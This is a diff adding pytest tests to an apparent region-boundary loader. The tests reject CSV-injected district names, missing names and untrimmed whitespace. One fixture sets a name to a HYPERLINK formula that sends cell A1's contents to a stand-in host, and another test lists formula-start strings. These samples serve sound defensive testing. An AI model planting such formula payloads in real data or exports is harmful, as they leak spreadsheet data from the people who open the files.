@@ -181,3 +181,45 @@ def test_utm_coordinates_labelled_4326_rejected(tmp_path: Path, write_config, ex
     bad.write_text(json.dumps(gj, ensure_ascii=False), encoding="utf-8")
     out = _account_rejects(tmp_path, write_config, bad, "EPSG:4326", "area of use", "坐标系")
     assert "161579" in out  # the observed coordinates are quoted
+
+
+def _set_name(code: str, name: object) -> Callable[[list[Feature]], list[Feature]]:
+    def edit(features: list[Feature]) -> list[Feature]:
+        _feature(features, code)["properties"]["district_name"] = name
+        return features
+
+    return edit
+
+
+def test_region_name_read_as_a_formula_is_rejected(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
+    """A county named ``=HYPERLINK(...)`` in an uploaded boundary file reached results.csv unchanged, where
+    Excel and WPS run it as a formula on opening (CSV injection). Rejected now, naming region, field and fix."""
+    bad = _boundaries(example_dir, tmp_path / "formula.geojson",
+                      _set_name("360102", '=HYPERLINK("http://x.invalid/?"&A1,"东湖区")'))
+    out = _account_rejects(tmp_path, write_config, bad, "360102", "district_name", "formula", "公式")
+    assert "Traceback" not in out
+
+
+@pytest.mark.parametrize("name", ["+1", "-东湖区", "@SUM(A1)", "  =1+1"])
+def test_every_formula_start_is_rejected(tmp_path: Path, write_config, example_dir: Path, name: str) -> None:  # type: ignore[no-untyped-def]
+    bad = _boundaries(example_dir, tmp_path / "formula.geojson", _set_name("360103", name))
+    with pytest.raises(RegionError) as info:
+        load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
+    assert info.value.field == "district_name" and "360103" in info.value.en and info.value.zh
+
+
+@pytest.mark.parametrize("name", [None, "", "   "])
+def test_missing_region_name_is_rejected(tmp_path: Path, write_config, example_dir: Path, name: object) -> None:  # type: ignore[no-untyped-def]
+    """A null name became the text 'None' (or 'nan' from a shapefile) in every table; now an error naming it."""
+    bad = _boundaries(example_dir, tmp_path / "noname.geojson", _set_name("360103", name))
+    with pytest.raises(RegionError) as info:
+        load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
+    assert info.value.field == "district_name" and "360103" in info.value.en and "没有名称" in info.value.zh
+
+
+def test_names_are_stripped_alike_in_the_hierarchy_and_the_leaves(tmp_path: Path, write_config, example_dir: Path) -> None:  # type: ignore[no-untyped-def]
+    """The hierarchy stripped names, the leaf table did not: the same county had two spellings."""
+    bad = _boundaries(example_dir, tmp_path / "spaces.geojson", _set_name("360103", "\t西湖区 "))
+    regions = load_regions(load_config(write_config(tmp_path, regions={"file": str(bad)})))
+    assert regions.get("360103").name == "西湖区"
+    assert regions.leaves.set_index("code").loc["360103", "name"] == "西湖区"
